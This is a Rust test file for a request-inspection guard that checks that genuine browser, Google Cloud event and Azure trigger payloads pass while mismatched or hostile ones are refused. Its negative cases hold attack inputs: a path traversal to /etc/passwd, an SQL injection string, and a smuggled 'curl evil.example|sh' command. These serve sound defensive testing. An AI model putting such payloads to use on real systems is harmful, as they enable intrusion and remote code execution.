//! What honest platforms deliver to servers passes, by the kind it is; what pretends to be something else doesn't.

#![allow(clippy::unwrap_used)]

use events::Request;
use fence::{EventFence, FunctionFence};
use guard::{Action, Decision, Inspector};
use records::Mode;
use serde_json::json;
use std::collections::BTreeMap;

fn inspector(sources: &[&str]) -> Inspector {
    let line = |source: &&str| EventFence { source: (*source).to_owned(), ..EventFence::default() };
    let function = FunctionFence { events: sources.iter().map(line).collect(), ..FunctionFence::default() };
    Inspector::new(&function, &BTreeMap::new(), Mode::Block).unwrap()
}

fn request(sources: &[&str], method: &str, path: &str, query: &str, headers: &[(&str, &str)], body: &str) -> Decision {
    let headers: Vec<(String, String)> =
        headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    let request = Request { method, path, query, headers: &headers, body: body.as_bytes() };
    inspector(sources).inspect_request(&request)
}

#[test]
fn a_browser_and_a_program_ask_as_they_do() {
    let browser = [
        ("host", "shop-4f2x-ew.a.run.app"),
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("accept-language", "de,en-US;q=0.7,en;q=0.3"),
        ("referer", "https://shop.example/list?sort=price&dir=asc"),
        ("cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln; theme=dark"),
        ("x-forwarded-for", "203.0.113.9, 169.254.1.1"),
        ("x-forwarded-proto", "https"),
        ("forwarded", "for=\"203.0.113.9\";proto=https"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("x-cloud-trace-context", "105445aa7843bc8bf206b12000100000/1;o=1"),
    ];
    let decision = request(&["http"], "GET", "/list/O%27Neill%20%26%20Sons", "sort=price&q=caf%C3%A9", &browser, "");
    assert_eq!(decision.action, Action::Pass, "{:?}", decision.verdict);
    assert_eq!(decision.verdict.source.as_deref(), Some("203.0.113.9"));
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let decision = request(&["http-api"], "POST", "/ask", "", &form, "name=O%27Neill&text=How+much+is+it%3F");
    assert_eq!(decision.action, Action::Pass, "{:?}", decision.verdict);
    for (path, query) in [("/%2e%2e/etc/passwd", ""), ("/a%00b", ""), ("/a", "q=%27%20OR%20%271%27=%271%27%20--")] {
        assert_eq!(request(&["http"], "GET", path, query, &browser, "").action, Action::Refuse, "{path}?{query}");
    }
}

#[test]
fn googles_events_pass_by_their_kind() {
    let audit = json!({
        "protoPayload": {
            "serviceName": "storage.googleapis.com",
            "methodName": "storage.objects.create",
            "resourceName": "projects/_/buckets/up/objects/a.pdf",
            "authenticationInfo": {"principalEmail": "deploy@shop.iam.gserviceaccount.com"},
            "requestMetadata": {"callerIp": "203.0.113.9", "callerSuppliedUserAgent": "google-cloud-sdk gcloud/500.0.0"},
        },
        "insertId": "1h0d9p", "logName": "projects/shop/logs/cloudaudit.googleapis.com%2Fdata_access",
    });
    let document = json!({
        "value": {
            "name": "projects/shop/databases/(default)/documents/users/alice",
            "fields": {"name": {"stringValue": "Alice O'Neill"}, "age": {"integerValue": "41"}},
            "createTime": "2026-01-01T00:00:00.123456Z", "updateTime": "2026-01-01T00:00:00.123456Z",
        },
        "updateMask": {"fieldPaths": ["age"]},
    });
    for (line, kind, source, subject, data) in [
        (
            "audit-log",
            "google.cloud.audit.log.v1.written",
            "//cloudaudit.googleapis.com/projects/shop/logs/data_access",
            "storage.googleapis.com/projects/_/buckets/up/objects/a.pdf",
            &audit,
        ),
        (
            "firestore",
            "google.cloud.firestore.document.v1.updated",
            "//firestore.googleapis.com/projects/shop/databases/(default)",
            "documents/users/alice",
            &document,
        ),
    ] {
        let headers = [
            ("content-type", "application/json; charset=utf-8"),
            ("ce-specversion", "1.0"),
            ("ce-id", "1096434104173400"),
            ("ce-time", "2026-01-01T00:00:00.123Z"),
            ("ce-type", kind),
            ("ce-source", source),
            ("ce-subject", subject),
            ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
            ("user-agent", "CloudPubSub-Google"),
            ("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL3gifQ.c2ln"),
        ];
        let body = data.to_string();
        let decision = request(&[line], "POST", "/", "", &headers, &body);
        assert_eq!(decision.action, Action::Pass, "{:?}", decision.verdict);
        assert_eq!(decision.verdict.trigger, line);
        assert_eq!(request(&["cloudevent"], "POST", "/", "", &headers, &body).action, Action::Pass, "the wider kind");
        assert_eq!(request(&["pubsub"], "POST", "/", "", &headers, &body).action, Action::Drop, "another kind");
        let attack = body.replace("alice", "x;curl evil.example|sh").replace("a.pdf", "$(curl evil.example|sh)");
        assert_eq!(request(&[line], "POST", "/", "", &headers, &attack).action, Action::Drop);
    }
}

#[test]
fn azures_triggers_are_told_by_what_the_host_says_of_them() {
    let sys = json!({"MethodName": "F", "UtcNow": "2026-01-01T00:00:00.1Z", "RandGuid": "ab11a1a4-92b8-4e0c-9a1e-dc2a4bd7c4a8"});
    for (kind, data, metadata) in [
        (
            "service-bus",
            json!({"order": "{\"id\":1,\"name\":\"O'Neill\"}"}),
            json!({"DeliveryCount": "1", "SequenceNumber": "12", "LockToken": "\"b5\"", "EnqueuedTimeUtc": "\"2026-01-01T00:00:00Z\"",
                "MessageId": "\"7f\"", "UserProperties": "{}", "sys": sys}),
        ),
        (
            "event-hub",
            json!({"clicks": "[{\"page\":\"/list\"}]"}),
            json!({"PartitionContext": {"EventHubName": "clicks", "ConsumerGroup": "$Default"}, "SystemPropertiesArray": [], "sys": sys}),
        ),
        (
            "blob",
            json!({"upload": "aGVsbG8="}),
            json!({"BlobTrigger": "\"uploads/report 2026.pdf\"", "Uri": "\"https://shop.blob.core.windows.net/uploads/report%202026.pdf\"",
                "Properties": {"Length": 5}, "Metadata": {}, "name": "\"report 2026.pdf\"", "sys": sys}),
        ),
        (
            "schedule",
            json!({"timer": {"Schedule": {"AdjustForDST": true}, "ScheduleStatus": null, "IsPastDue": false}}),
            json!({"sys": sys}),
        ),
        (
            "event-grid",
            json!({"event": {"id": "1", "topic": "/subscriptions/0/x", "subject": "/blobServices/default/containers/up/blobs/a.pdf",
                "eventType": "Microsoft.Storage.BlobCreated", "eventTime": "2026-01-01T00:00:00Z", "data": {"api": "PutBlob"}}}),
            json!({"sys": sys}),
        ),
        ("binding", json!({"documents": [{"id": "1", "name": "O'Neill"}]}), json!({"sys": sys})),
    ] {
        let body = json!({"Data": data, "Metadata": metadata}).to_string();
        let decision = inspector(&[kind]).inspect_envelope("F", body.as_bytes()).unwrap();
        assert_eq!(decision.action, Action::Pass, "{kind}: {:?}", decision.verdict);
        assert_eq!(decision.verdict.trigger, kind);
        let other = if kind == "blob" { "binding" } else { "blob" };
        let decision = inspector(&[other]).inspect_envelope("F", body.as_bytes()).unwrap();
        assert_ne!(decision.action, Action::Pass, "{kind} where only {other} is listed");
    }
    let inspector = inspector(&["blob"]);
    assert!(inspector.inspect_envelope("F", b"{\"Data\":{}}").is_none());
    let twice = inspector.inspect_envelope("F", b"{\"Data\":{\"a\":1,\"a\":2},\"Metadata\":{}}").unwrap();
    assert_eq!(twice.action, Action::Refuse, "the same key twice");
}
